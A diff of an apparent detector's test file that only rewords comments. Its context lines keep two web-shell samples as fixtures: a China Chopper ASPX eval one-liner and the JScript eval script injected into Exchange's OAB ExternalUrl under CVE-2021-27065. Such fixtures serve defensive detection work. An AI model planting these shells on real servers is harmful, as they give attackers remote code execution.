@@ -53,11 +53,11 @@ def by_rule(result: UnitResult) -> dict[str, Finding]:
     return out
 
 
-# A China Chopper one-liner as published (indicators.md §6).
+# A China Chopper one-liner as published with its client.
 CHOPPER = b'<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>'
 
 # The property dump Exchange writes on ResetOABVirtualDirectory, after Set-OabVirtualDirectory put
-# a script into ExternalUrl (CVE-2021-27065); property names as listed in indicators.md §6.
+# a script into ExternalUrl (CVE-2021-27065); property names as Get-OabVirtualDirectory lists them.
 OAB_SCRIPT = (
     'http://f/<script language="JScript" runat="server">function Page_Load()'
     '{eval(Request["orange"],"unsafe");}</script>'
